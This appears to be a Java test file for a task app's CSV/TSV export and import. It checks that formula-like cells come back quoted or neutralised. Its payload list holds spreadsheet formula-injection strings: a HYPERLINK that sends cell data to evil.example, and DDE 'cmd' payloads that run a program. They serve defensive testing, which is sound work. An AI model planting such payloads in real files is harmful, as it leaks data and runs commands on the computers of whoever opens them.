package docket.embedded;

import static org.assertj.core.api.Assertions.assertThat;

import docket.domain.json.Json;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Cells that a spreadsheet program would run (access.md T-54). Exports give data back as they are
 * (export.md §7), always quoted; whoever opens them in such a program asks for them without
 * formulas.
 */
@ExtendWith(House.Shared.class)
class FormulaCellsTest {
  private static final List<String> FORMULAS =
      List.of(
          "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
          "=1+1",
          "+cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+9)*cmd|' /C calc'!A0",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1");

  private static Stream project(House house) {
    var stream = Stream.of(house.product(), house.owner(), Json.object(), 0);
    for (var formula : FORMULAS) {
      var data = Json.object().put("text", formula).put(formula, "plain, -1").put("n", -1).build();
      house
          .owner()
          .post(
              "/api/tasks/",
              Json.object().put("project", stream.project()).put("data", data).build())
          .expect(201);
    }
    var task = stream.states().getFirst().id().value();
    Stream.submit(house.owner(), task, null).expect(201);
    return stream;
  }

  private static String export(House house, Stream stream, String query) {
    var path =
        "/api/projects/%d/export?download_all_tasks=true&%s".formatted(stream.project(), query);
    var answer = house.owner().get(path).expect(200);
    assertThat(answer.raw().headers().firstValue("Content-Disposition").orElse(""))
        .startsWith("attachment; filename=");
    assertThat(answer.raw().headers().firstValue("Content-Type")).contains("text/csv");
    assertThat(answer.raw().headers().firstValue("X-Content-Type-Options")).contains("nosniff");
    return new String(answer.raw().body(), StandardCharsets.UTF_8);
  }

  private static String quoted(String text) {
    return '"' + text.replace("\"", "\"\"") + '"';
  }

  @ParameterizedTest
  @ValueSource(strings = {"CSV", "TSV"})
  void when_nothing_is_asked_then_text_comes_back_as_it_is_and_quoted(String type, House house) {
    var table = export(house, project(house), "exportType=" + type);
    FORMULAS.forEach(formula -> assertThat(table).contains(quoted(formula)));
  }

  @ParameterizedTest
  @ValueSource(strings = {"CSV", "TSV"})
  void when_formulas_are_not_wanted_then_no_cell_is_one(String type, House house) {
    var table = export(house, project(house), "without_formulas=true&exportType=" + type);
    FORMULAS.forEach(formula ->
        assertThat(table).contains(quoted("'" + formula)).doesNotContain(quoted(formula)));
    assertThat(table).contains("plain, -1").containsPattern("[,\t]-1[,\t]"); // numbers stay
  }

  /** What comes in as a table is text, whatever it looks like. */
  @Test
  void when_a_table_with_formulas_is_imported_then_they_are_text(House house) {
    var stream = Stream.of(house.product(), house.owner(), Json.object(), 0);
    var part = Hostile.part("file", "a.csv", "text\n=1+1\n@SUM(A1)\n") + Hostile.END;
    var path = "/api/projects/%d/import".formatted(stream.project());
    house
        .owner()
        .send("POST", path, part.getBytes(StandardCharsets.UTF_8), Hostile.MULTIPART)
        .expect(201);
    var list = "/api/tasks/?fields=all&project=%d".formatted(stream.project());
    assertThat(new String(house.owner().get(list).raw().body(), StandardCharsets.UTF_8))
        .contains("\"text\":\"=1+1\"", "\"text\":\"@SUM(A1)\"");
  }
}
